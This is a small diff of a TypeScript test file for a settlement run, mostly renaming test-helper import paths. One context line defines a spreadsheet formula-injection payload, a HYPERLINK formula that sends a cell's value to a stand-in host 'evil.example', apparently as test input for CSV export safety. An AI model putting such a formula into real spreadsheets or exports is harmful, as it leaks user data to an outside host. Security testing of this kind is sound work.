@@ -9,10 +9,10 @@
 import { readFile } from 'node:fs/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { RECONCILIATION_COLUMNS } from '../../shared/settlement';
-import { fakeClock } from '../test-support/clock';
-import { type TestGateway, type TestMerchant, testGateway } from '../test-support/gateway';
+import { fakeClock } from '../test-kit/clock';
+import { type TestGateway, type TestMerchant, testGateway } from '../test-kit/gateway';
+import { parseCsv } from '../test-kit/settlement/spec-checks';
 import { settleDay } from './settlement-run';
-import { parseCsv } from './testing';
 
 const DAY = '2026-04-01';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Click")';
